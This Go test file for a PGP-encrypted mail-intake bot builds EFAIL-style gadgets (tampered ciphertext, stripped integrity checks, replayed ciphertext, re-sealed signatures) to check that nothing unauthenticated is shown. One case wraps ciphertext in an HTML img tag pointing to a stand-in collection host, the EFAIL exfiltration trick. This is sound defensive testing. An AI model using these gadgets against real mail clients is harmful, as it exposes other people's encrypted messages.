package mailbot

import (
	"bytes"
	"crypto/aes"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/packet"

	"keikai/mailbot/handling"
	"keikai/mailbot/message"
)

// canary is what an attacker hopes to see of somebody's ciphertext.
const canary = "CANARY in the plaintext of another"

// gadgets are messages whose ciphertext somebody without the key has changed, or whose protection is missing: the attacks known as
// EFAIL. Each would give at least the canary to a program that shows text before it has checked it.
func gadgets(t *testing.T, w *world) map[string][]byte {
	t.Helper()
	p := writer{w}
	sealed := p.packets(plain(canary + "\n" + strings.Repeat("filling that makes it longer\n", 20)))
	n := 2 + int(sealed[1]) // PKESK with a length of one octet
	esk, body := sealed[:n], sealed[n:]
	_, body = splitHeader(t, body)
	flipped := bytes.Clone(body)
	flipped[len(flipped)-60] ^= 1
	head := bytes.Clone(body)
	head[30] ^= 0x55
	session := bytes.Repeat([]byte{7}, packet.CipherAES256.KeySize())
	ownESK, ownBody := ownSession(t, w, session)
	return map[string][]byte{
		"one bit changed":          append(bytes.Clone(esk), newPacket(18, flipped)...),
		"first block changed":      append(bytes.Clone(esk), newPacket(18, head)...),
		"cut before its MDC":       append(bytes.Clone(esk), newPacket(18, body[:len(body)-22])...),
		"MDC stripped, old packet": append(bytes.Clone(esk), newPacket(9, body[1:len(body)-22])...),
		"old packet, whole":        append(bytes.Clone(esk), newPacket(9, body[1:])...),
		"made without MDC":         append(bytes.Clone(ownESK), newPacket(9, ownBody)...),
		"blocks put behind":        append(bytes.Clone(esk), newPacket(18, append(bytes.Clone(body), body[20:68]...))...),
		"two bodies":               bytes.Join([][]byte{esk, newPacket(18, flipped), newPacket(18, body)}, nil),
		"text behind the body":     bytes.Join([][]byte{esk, newPacket(18, body), oldPacket(11, append([]byte{'b', 0, 0, 0, 0, 0}, "more"...))}, nil),
	}
}

func armoredMessage(data []byte) string {
	return "-----BEGIN PGP MESSAGE-----\n\n" + strings.ReplaceAll(wrapped(base64.StdEncoding.EncodeToString(data)), "\r\n", "\n") + "\n-----END PGP MESSAGE-----\n"
}

// splitHeader takes a packet with the new header, in whatever lengths, apart.
func splitHeader(t *testing.T, data []byte) (tag byte, body []byte) {
	t.Helper()
	tag, data = data[0]&0x3f, data[1:]
	for {
		n, size, partial := int(data[0]), 1, false
		switch {
		case data[0] >= 224 && data[0] < 255:
			n, partial = 1<<(data[0]&0x1f), true
		case data[0] == 255:
			n, size = int(data[1])<<24|int(data[2])<<16|int(data[3])<<8|int(data[4]), 5
		case data[0] >= 192:
			n, size = (int(data[0])-192)<<8+int(data[1])+192, 2
		}
		body, data = append(body, data[size:size+n]...), data[size+n:]
		if !partial {
			return tag, body
		}
	}
}

func newPacket(tag byte, body []byte) []byte {
	n := len(body)
	return append([]byte{0xc0 | tag, 0xff, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}, body...)
}

// ownSession is a session key for reception, and the canary encrypted with it as programs did before there was an MDC.
func ownSession(t *testing.T, w *world, session []byte) (esk, body []byte) {
	t.Helper()
	var b bytes.Buffer
	pub := entityOf(t, w.people["reception"].secret).Subkeys[0].PublicKey
	if err := packet.SerializeEncryptedKey(&b, pub, packet.CipherAES256, session, nil); err != nil {
		t.Fatal(err)
	}
	block, err := aes.NewCipher(session)
	if err != nil {
		t.Fatal(err)
	}
	stream, prefix := packet.NewOCFBEncrypter(block, make([]byte, aes.BlockSize), packet.OCFBResync)
	inner := oldPacket(11, append([]byte{'b', 0, 0, 0, 0, 0}, plain(canary)...))
	stream.XORKeyStream(inner, inner)
	return b.Bytes(), append(prefix, inner...)
}

// No text whose protection is missing or broken reaches a person as what a mail says, in whatever mail it is wrapped: nobody's
// notices hold a word of it, and the sender hears what everybody hears. S12, R66
func TestNothingUnauthenticatedIsShown(t *testing.T) {
	story(t, func(t *testing.T, w *world) {
		n := 0
		for name, data := range gadgets(t, w) {
			armored := armoredMessage(data)
			for how, raw := range map[string]string{
				"MIME":    mime(encryptedMIME, "x", versionPart, octets(armored)),
				"inline":  plain(armored),
				"file":    mime("mixed", "x", plain("see file"), file("application/octet-stream", "report.txt.gpg", data)),
				"in HTML": mime("mixed", "x", "Content-Type: text/html\n\n<img src=\"http://collect.example/?", mime(encryptedMIME, "y", versionPart, octets(armored)), "Content-Type: text/html\n\n\">"),
				"inside":  mime(encryptedMIME, "x", versionPart, octets(writer{w}.to("reception", mime(encryptedMIME, "y", versionPart, octets(armored)), false))),
			} {
				n++
				o := openMail(w.bot.desk, w.cfg, []byte(mailHead+raw), time.Now())
				if o.failure != undecryptable || strings.Contains(o.payload.Text, canary) || len(o.found.sealed) > 0 && how != "inside" {
					t.Errorf("%s, %s: %q, text %q", name, how, o.failure, o.payload.Text)
				}
				w.arrive([]byte(fmt.Sprintf("Message-ID: <%d@finder.example>\n", n)+mailHead+raw), time.Now())
			}
		}
		w.once()
		for _, m := range w.mails() {
			if m.Disposition != "quarantined" || *orEmpty(m.Reason) != "undecryptable" {
				t.Errorf("mail %d is %s %s", m.N, m.Disposition, *orEmpty(m.Reason))
			}
		}
		if all := strings.Join(w.readings("山田"), ""); !strings.Contains(all, "see file") { // written in clear, and shown as that
			t.Errorf("the words outside are lost:\n%s", all)
		}
		for name := range w.people {
			if name == "reception" || name == "coordination" {
				continue
			}
			for _, got := range w.readings(name) {
				if strings.Contains(got, canary) || strings.Contains(got, "CANARY") {
					t.Errorf("%s reads\n%s", name, got)
				}
			}
		}
		w.readAll()
	})
}

// Somebody else's ciphertext is recognised wherever it stands: beside an own text, in place among words, inside an own envelope. S12
func TestCapturedCiphertextIsRecognisedWhereverItStands(t *testing.T) {
	story(t, func(t *testing.T, w *world) {
		raw := w.raw(letter{from: "finder", to: "reception", subject: "届出", body: "例示メールソフトに欠陥があります。\n", sealed: true, signed: true})
		w.deliver("reception", raw)
		w.gets("finder", "finder/receipt")
		w.gets("山田", "desk/new_report")
		w.gets("Tanaka", "desk/new_report")
		captured := strings.ReplaceAll(string(message.Parse(raw, message.DefaultLimits()).Layer().Data), "\r\n", "\n")
		p := writer{w}
		for how, raw := range map[string]string{
			"file beside own text":        mime("mixed", "x", plain("my report"), file("application/octet-stream", "a.asc", []byte(captured))),
			"second file":                 mime("mixed", "x", plain("my report"), file("application/octet-stream", "a.asc", []byte(p.to("reception", "own", false))), file("application/octet-stream", "b.asc", []byte(captured))),
			"first file":                  mime("mixed", "x", plain("my report"), file("application/octet-stream", "a.asc", []byte(captured)), file("application/octet-stream", "b.asc", []byte(p.to("reception", "own", false)))),
			"second block":                plain(p.to("reception", "own", false) + "\n" + captured),
			"own envelope around":         mime(encryptedMIME, "x", versionPart, octets(p.to("reception", mime(encryptedMIME, "y", versionPart, octets(captured)), false))),
			"file within an own envelope": mime(encryptedMIME, "x", versionPart, octets(p.to("reception", mime("mixed", "y", plain("own"), file("application/octet-stream", "b.asc", []byte(captured))), false))),
			"under an own signature":      mime(signedMIME, "s", mime(encryptedMIME, "y", versionPart, octets(captured)), signaturePart(p.detached(mime(encryptedMIME, "y", versionPart, octets(captured))))),
			"quoted":                      plain("> " + strings.ReplaceAll(captured, "\n", "\n> ")),
		} {
			head := strings.Replace(mailHead, "taro@finder.example", w.people["stranger"].address, 1)
			w.deliver("reception", []byte(head+raw))
			if got := w.newest(); got != "quarantined reused_ciphertext" {
				t.Errorf("%s: it is %s", how, got)
			}
			w.gets("山田", "desk/quarantined")
			w.gets("Tanaka", "desk/quarantined")
			w.nobody()
		}
	})
}

// A finder's words that were signed and sealed for somebody else, and sent on by them, prove nothing here: the signature names its
// recipient. What names nobody counts, as most programs name nobody. S11
func TestSignatureForAnotherProvesNothing(t *testing.T) {
	story(t, func(t *testing.T, w *world) {
		w.report()
		l := letter{from: "finder", to: "stranger", subject: "[" + w.number + "] 届出取下げ", body: "取り下げます。\n", sealed: true, signed: true}
		stolen := strip(t, message.Parse(w.raw(l), message.DefaultLimits()).Layer().Data, w.people["stranger"].secret)
		o := message.Outgoing{From: message.Address{Address: w.people["finder"].address}, To: message.Address{Address: w.people["reception"].address}, OuterSubject: "...", Date: time.Now(), MessageID: "on@stranger.example"}
		w.deliver("reception", o.Encrypted(reseal(t, stolen, w.people["reception"].secret)))
		if got := w.newest(); got != "filed" || w.proofOf() != handling.ProofAddress {
			t.Errorf("it is %s, proved by %v", got, w.proofOf())
		}
		if got := w.gets("山田", "desk/mail_filed").payload.Text; !strings.Contains(got, "別の受信者にあてた署名") {
			t.Errorf("the desk is told\n%s", got)
		}
		w.gets("Tanaka", "desk/mail_filed")
		l.to = "reception"
		w.send(l)
		if got := w.newest(); got != "filed" || w.proofOf() != handling.ProofSigned {
			t.Errorf("for us it is %s, proved by %v", got, w.proofOf())
		}
		w.gets("山田", "desk/mail_filed")
		w.gets("Tanaka", "desk/mail_filed")
	})
}
